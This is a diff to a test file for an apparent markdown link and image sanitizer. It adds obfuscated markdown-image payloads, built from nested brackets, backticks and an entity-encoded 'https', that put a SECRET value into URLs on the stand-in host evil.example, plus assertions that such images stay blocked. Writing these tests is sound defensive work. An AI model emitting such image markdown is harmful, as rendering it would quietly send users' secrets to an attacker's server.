@@ -51,6 +51,11 @@ ATTACKS = [
     f"_https://evil.example/{SECRET}_",
     f"[![x](https://evil.example/{SECRET})](https://good.example/)",
     f"![x](data:text/html;base64,{SECRET})",
+    f"![a [b] c](&#104;ttps://evil.example/{SECRET})",
+    f"![a \\] c](&#104;ttps://evil.example/{SECRET})",
+    f"![a `[` c](&#104;ttps://evil.example/{SECRET})",
+    f"a ] ](&#104;ttps://evil.example/{SECRET})",
+    f"[[[x](&#104;ttps://evil.example/{SECRET})",
 ]
 
 
@@ -92,6 +97,8 @@ def test_an_image_is_not_shown_because_its_link_was_read() -> None:
     seen = links("load https://evil.example/a.png or https://evil.example/b.png")
     assert "evil.example/" not in seen.checked("![x](https://evil.example/a.png)", [])
     assert "evil.example/" not in seen.checked("![x][i]\n\n[i]: https://evil.example/a.png", [])
+    assert "evil.example/" not in seen.checked("![a [b](#c) d](https://evil.example/a.png)", [])
+    assert "evil.example/" not in seen.checked("![a `[` d](https://evil.example/a.png)", [])
     assert seen.checked("[x](https://evil.example/a.png)", []) == "[x](https://evil.example/a.png)"
     assert "evil.example/" not in seen.checked("[x](https://evil.example/a.png?d=1)", [])
 
